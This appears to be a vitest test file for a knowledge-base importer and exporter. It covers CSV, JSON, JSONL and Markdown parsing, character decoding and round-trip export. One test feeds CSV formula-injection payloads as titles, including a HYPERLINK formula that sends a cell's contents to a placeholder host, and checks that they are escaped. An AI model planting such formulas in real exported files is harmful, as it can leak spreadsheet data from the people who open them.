import { describe, expect, it } from 'vitest';
import { processorMs } from '../../tests/support/processor.ts';
import { readCsv } from './csv.ts';
import type { Entry, Phrase } from './entry.ts';
import {
  decodeText,
  fileEntry,
  fileHead,
  fileTail,
  type KnowledgeFormat,
  readFileRows,
} from './knowledge-files.ts';
import { longestSection, readMarkdown } from './markdown.ts';

const rows = (format: KnowledgeFormat, text: string) =>
  [...readFileRows(format, text, 'shop')].filter((row) => row !== undefined);

describe('CSV', () => {
  it('is read with quotes, doubled quotes, line breaks, CRLF and a mark at its beginning', () => {
    const text = '\uFEFFq,a,indexes\r\n"a ""b"", c","第一行\n第二行","x\ny|z"\r\n问,答,\r\n';
    expect(rows('csv', text)).toEqual([
      {
        line: 2,
        draft: { title: 'a "b", c', answer: '第一行\n第二行', phrases: ['x', 'y', 'z'], tags: [] },
      },
      { line: 5, draft: { title: '问', answer: '答', phrases: [], tags: [] } },
    ]);
  });

  it('may name its columns otherwise, or not at all; further columns are ways to ask', () => {
    const draft = { title: '问', answer: '答', phrases: ['甲', '乙'], tags: [] };
    expect(rows('csv', '答案,问题,相似问题\n答,问,甲|乙')).toEqual([{ line: 2, draft }]);
    expect(rows('csv', '问,答,甲,乙')).toEqual([{ line: 1, draft }]);
  });

  it('tells the line of what is at fault, and goes on', () => {
    const text = 'q,a\n,答\n问,\n好,好的\n"不完,x';
    const [first, second, third, fourth] = rows('csv', text);
    expect(first).toMatchObject({ line: 2, fault: { en: 'there is no question' } });
    expect(second).toMatchObject({ line: 3, fault: { en: 'there is no answer' } });
    expect(third).toMatchObject({ line: 4, draft: { title: '好' } });
    expect(fourth).toMatchObject({ line: 5, fault: { en: 'a quote is not closed' } });
  });

  it('comes in the characters that spreadsheets write', () => {
    const gbk = Uint8Array.of(0xce, 0xca, 0x2c, 0xb4, 0xf0);
    expect(decodeText(gbk)).toBe('问,答');
    expect(decodeText(Uint8Array.of(0xff, 0xfe, 0xee, 0x95))).toBe('问');
  });

  it('reads a megabyte of quotes in one pass', () => {
    const took = processorMs(() => {
      expect([...readCsv('""'.repeat(500_000))]).toHaveLength(1);
    });
    expect(took).toBeLessThan(2000);
  });
});

describe('JSON', () => {
  it('is a list, or a line for each', () => {
    const item = { q: '问', a: '答', indexes: ['甲'], kind: 'doc' };
    const draft = { title: '问', answer: '答', phrases: ['甲'], tags: [], kind: 'doc' };
    expect(rows('json', JSON.stringify([item]))).toEqual([{ line: 1, draft }]);
    expect(rows('jsonl', `\n${JSON.stringify(item)}\n{`)).toEqual([
      { line: 2, draft },
      { line: 3, fault: { zh: '不是合法的 JSON', en: 'not valid JSON' } },
    ]);
    expect(rows('json', '{}')[0]).toMatchObject({ fault: { en: 'must be a list' } });
    expect(rows('json', '[1]')[0]).toMatchObject({ fault: { en: 'must be an object' } });
  });
});

describe('Markdown', () => {
  it('is split at its headings, not at what looks like one in code', () => {
    const text = 'intro\n# A\none\n```\n# no heading\n```\n## B\ntwo\n### D\n\n# C\nthree';
    expect([...readMarkdown(text, 'name')]).toEqual([
      { title: 'name', text: 'intro', line: 1 },
      { title: 'A', text: 'one\n```\n# no heading\n```', line: 2 },
      { title: 'A › B', text: 'two', line: 7 },
      { title: 'C', text: 'three', line: 11 },
    ]);
  });

  it('has no part longer than may be, and loses nothing', () => {
    const paragraph = '字'.repeat(700);
    const text = `# A\n${[paragraph, paragraph, paragraph, '长'.repeat(4000)].join('\n\n')}`;
    const parts = [...readMarkdown(text, 'name')];
    expect(parts.map(({ title }) => title).slice(0, 3)).toEqual(['A', 'A (2)', 'A (3)']);
    for (const part of parts) expect(part.text.length).toBeLessThanOrEqual(longestSection);
    const joined = parts.map((part) => part.text).join('');
    expect(joined.replaceAll('\n', '')).toHaveLength(2100 + 4000);
  });
});

describe('what is written', () => {
  const entry: Entry & { phrases: Phrase[] } = {
    ...{ id: 1, kb: 'shop', kind: 'qa', title: '问 "1", 2', answer: '甲\n乙', reply: undefined },
    ...{ enabled: true, tags: ['x'], source: 'admin', hits: 0, createdAt: 0, updatedAt: 0 },
    phrases: [{ id: 2, text: '再问', added: true }],
  };

  it.each(['csv', 'json', 'jsonl'] as const)('as %s reads as the same', (format) => {
    const text = fileHead(format) + fileEntry(format, entry, true) + fileTail(format);
    const [row] = rows(format, text);
    expect(row).toMatchObject({
      draft: { title: entry.title, answer: entry.answer, phrases: ['再问'], tags: ['x'] },
    });
  });

  it.each(['=HYPERLINK("http://x/?"&A1,"y")', '+1', '-1', '@SUM(A1)', "'=1", "''-"])(
    'a formula is words to programs that calculate, and the same when it is read',
    (title) => {
      const answer = '- 一';
      const text =
        fileHead('csv') + fileEntry('csv', { ...entry, title, answer, phrases: [] }, true);
      expect(text).not.toMatch(/(?:^|,)"?[=+@-]/m);
      expect(rows('csv', text)).toMatchObject([{ draft: { title, answer } }]);
    },
  );
});
